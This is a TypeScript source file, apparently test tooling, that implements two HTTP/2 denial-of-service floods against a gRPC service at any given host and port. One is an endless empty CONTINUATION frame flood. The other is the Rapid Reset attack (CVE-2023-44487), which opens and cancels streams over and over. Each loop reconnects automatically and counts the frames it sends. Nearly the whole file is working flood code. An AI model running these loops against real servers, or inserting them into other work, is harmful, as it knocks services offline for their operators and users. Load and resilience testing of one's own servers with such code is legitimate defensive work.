// The frame floods flood-child.ts runs: each keeps reconnecting while it floods one connection,
// until stopped, and counts the frames it wrote.
import {
  connectRaw,
  Flags,
  FrameType,
  frame,
  grpcRequestHeaders,
  headerBlock,
  type RawH2Connection,
} from "./h2-frames.ts";

const ADD_FLOATS = "/foo.bar.AdderService/AddFloats";

export interface FloodLoop {
  stop(): Promise<string>;
}

/** `step` writes a batch on one connection and returns how many frames it held. */
function reconnecting(
  host: string,
  port: number,
  step: (connection: RawH2Connection, block: Buffer) => Promise<number>,
  what: string,
): FloodLoop {
  let running = true;
  let connections = 0;
  let goAways = 0;
  let frames = 0;
  const started = performance.now();
  let current: RawH2Connection | undefined;
  const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
  const loop = (async () => {
    while (running) {
      try {
        current = await connectRaw(host, port);
      } catch {
        await Bun.sleep(10);
        continue;
      }
      connections++;
      while (running && !current.socket.destroyed) frames += await step(current, block);
      if (current.goAwayCode() !== undefined) goAways++;
      current.destroy();
    }
  })();
  return {
    async stop() {
      running = false;
      current?.destroy();
      await loop;
      const seconds = (performance.now() - started) / 1000;
      return `${what}: ${connections} connection(s), ${goAways} ended by GOAWAY; ${frames} frames written in ${seconds.toFixed(1)} s (${Math.round(frames / seconds)}/s)`;
    },
  };
}

/** HEADERS without END_HEADERS, then empty CONTINUATION frames without end. */
export function emptyContinuationLoop(host: string, port: number): FloodLoop {
  const empty = frame(FrameType.Continuation, 0, 1);
  const batch = Buffer.concat(Array.from({ length: 1000 }, () => empty));
  const started = new WeakSet<RawH2Connection>();
  return reconnecting(
    host,
    port,
    async (connection, block) => {
      let frames = 1000;
      if (!started.has(connection)) {
        connection.write(frame(FrameType.Headers, 0, 1, block));
        started.add(connection);
        frames++;
      }
      if (!connection.write(batch)) await Bun.sleep(1);
      await Bun.sleep(0);
      return frames;
    },
    "empty CONTINUATION flood",
  );
}

/** A stream opened and reset at once, over and over (CVE-2023-44487). */
export function rapidResetLoop(host: string, port: number): FloodLoop {
  let stream = 1;
  const cancel = Buffer.from([0, 0, 0, 8]);
  return reconnecting(
    host,
    port,
    async (connection, block) => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100; i++) {
        frames.push(frame(FrameType.Headers, Flags.EndHeaders, stream, block));
        frames.push(frame(FrameType.RstStream, 0, stream, cancel));
        stream += 2;
        if (stream > 2 ** 31 - 2) stream = 1;
      }
      if (!connection.write(Buffer.concat(frames))) await Bun.sleep(1);
      await Bun.sleep(0);
      return frames.length;
    },
    "rapid reset",
  );
}
